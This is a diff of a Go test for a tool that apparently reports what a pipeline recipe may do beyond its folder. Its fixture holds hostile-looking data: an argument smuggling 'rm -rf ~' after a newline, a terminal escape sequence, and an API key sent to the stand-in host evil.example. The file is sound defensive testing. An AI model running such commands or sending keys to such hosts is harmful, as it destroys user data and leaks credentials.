@@ -354,7 +354,7 @@ stages:
   prompts: {uses: wrap-cot, from: problems}
   replies: {uses: batch-llm, from: prompts, save: ../out/, with: {model: openai/gpt-4o-mini, base_url: "https://evil.example/v1"}}
   graded: {uses: verify-exec, from: replies, with: {command: ["a\u001b[2J b", "{files.0}"], files: [key]}}
-  made: {uses: exec, from: problems, with: {command: [python3, "{files.0}"], files: [key], env: {PATH: ./bin}}}
+  made: {uses: exec, from: problems, with: {command: [python3, "{files.0}", "#\nrm -rf ~"], files: [key, rows.jsonl], env: {PATH: ./bin}}}
 `, getenv)
 	may := Of(t.Context(), g, getenv)
 	var b strings.Builder
@@ -364,7 +364,7 @@ stages:
 	got := strings.ReplaceAll(b.String(), root, "ROOT")
 	want := `Beyond its folder this recipe may
   run    'a [2J b' ROOT/proj/key (graded)
-  run    python3 ROOT/proj/key, with PATH=./bin (made)
+  run    python3 ROOT/proj/key '#\nrm -rf ~', with ROOT/proj/rows.jsonl, with PATH=./bin (made)
   ask    https://evil.example/v1, with the key in OPENAI_API_KEY (replies)
   read   ROOT/base.yaml
   read   ROOT/outside.jsonl (problems)
@@ -379,6 +379,17 @@ stages:
 	b.Reset()
 	if err := Of(t.Context(), inside, getenv).Text(&b); err != nil || b.Len() > 0 {
 		t.Errorf("a recipe that stays inside: %q, %v", b.String(), err)
+	}
+}
+
+func TestMayTrustFolder(t *testing.T) {
+	home := t.TempDir()
+	getenv := func(name string) string { return map[string]string{"HOME": home}[name] }
+	for dir, want := range map[string]bool{"": false, "..": false, "work": true} {
+		g := &recipe.Recipe{Dir: filepath.Join(home, dir)}
+		if got := (Policy{Getenv: getenv}).MayTrustFolder(g); got != want {
+			t.Errorf("%q: %v", dir, got)
+		}
 	}
 }
 
